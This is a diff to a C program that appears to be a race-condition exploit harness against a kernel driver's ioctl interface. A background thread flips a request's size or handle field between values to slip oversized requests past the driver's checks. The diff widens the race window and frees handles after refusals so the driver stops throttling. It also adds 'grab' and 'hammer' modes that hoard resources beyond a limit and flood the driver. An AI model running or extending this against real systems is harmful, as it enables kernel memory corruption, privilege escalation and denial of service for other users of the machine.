@@ -17,6 +17,7 @@
 #include <sys/socket.h>
 #include <sys/un.h>
 #include <sys/wait.h>
+#include <time.h>
 #include <unistd.h>
 
 typedef uint32_t u32;
@@ -119,12 +120,13 @@ static int compat(u64 bytes, u32 handle)
 static volatile int racing;
 static volatile u64 *flipped;
 static u64 flip_a, flip_b;
+static int stay_a = 40;
 static void *flipper(void *x)
 {
 	(void)x;
 	while (racing) {
 		*flipped = flip_a;
-		for (int i = 0; i < 40; i++)
+		for (int i = 0; i < stay_a; i++)
 			__asm__ volatile("pause");
 		*flipped = flip_b;
 		for (int i = 0; i < 40; i++)
@@ -144,6 +146,7 @@ static void race(struct shared *s, u64 n, u64 small, u64 big, u64 limit)
 	flipped = &p.size;
 	flip_a = small;
 	flip_b = big;
+	stay_a = 2000; // mostly what the door lets through, so that many tries reach the driver before one wins
 	racing = 1;
 	pthread_create(&t, 0, flipper, 0);
 	for (u64 i = 0; i < n; i++) {
@@ -177,11 +180,18 @@ static void forge(u64 n, u64 bytes)
 	flip_a = flip_b = 0;
 	pthread_create(&t, 0, flipper, 0);
 	u32 handle = 0x5000;
+	int refused = 0;
 	for (u64 i = 0; i < n; i++) {
 		if (os64(bytes, ++handle, 0x40, 0, 0) || status) {
 			usleep(2000);
+			if (++refused > 100) { // give back what was got, so as to be believed again
+				for (u32 h = 0x5000; h < handle; h++)
+					drop(h);
+				refused = 0;
+			}
 			continue;
 		}
+		refused = 0;
 		flip_a = handle;
 		flip_b = 0xdead;
 		for (int j = 0; j < 30; j++)
@@ -278,7 +288,38 @@ int main(int argc, char **argv)
 			printf("%s passed %llu\n", argv[i], (unsigned long long)*passed);
 			continue;
 		} else if (IS("forge")) { forge(v[0], v[1]); continue; }
-		else if (IS("race")) { // tries in all, small, big, limit; a process that was killed is replaced
+		else if (IS("grab")) { // as race, but it keeps what it got
+			struct params p = {.size = v[0]};
+			pthread_t t;
+			flipped = &p.size;
+			flip_a = v[0];
+			flip_b = v[1];
+			stay_a = 40;
+			racing = 1;
+			pthread_create(&t, 0, flipper, 0);
+			u64 asked = 0;
+			while (counts().file <= v[2] && asked < 5000000) {
+				struct nvos64 a = {CLIENT, CLIENT, (u32)(0x100 + asked), 0x40, (u64)&p, 0, sizeof(p), 0, 0, 0};
+				if (!ioctl(fd, IOC(0x2b, sizeof(a)), &a) && counts().file <= v[2]) drop((u32)(0x100 + asked));
+				asked++;
+			}
+			struct timespec now;
+			clock_gettime(CLOCK_MONOTONIC, &now);
+			printf("grabbed %llu at %llu asked %llu\n", (unsigned long long)counts().file, (unsigned long long)(now.tv_sec * 1000000000ull + now.tv_nsec), (unsigned long long)asked);
+			sleep(30);
+			continue;
+		} else if (IS("hammer")) { // for so many ms: requests of so many bytes; how many passed
+			struct timespec a, b;
+			u64 asked = 0, passed = 0;
+			clock_gettime(CLOCK_MONOTONIC, &a);
+			do {
+				asked++;
+				if (!os64(v[1], 0x9000 + asked, 0x40, 0, 0)) passed++;
+				clock_gettime(CLOCK_MONOTONIC, &b);
+			} while ((u64)((b.tv_sec - a.tv_sec) * 1000 + (b.tv_nsec - a.tv_nsec) / 1000000) < v[0]);
+			printf("hammer asked %llu passed %llu\n", (unsigned long long)asked, (unsigned long long)passed);
+			continue;
+		} else if (IS("race")) { // tries in all, small, big, limit; a process that was killed is replaced
 			struct shared *s = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
 			u64 killed = 0;
 			while (s->passed + killed < v[0]) {
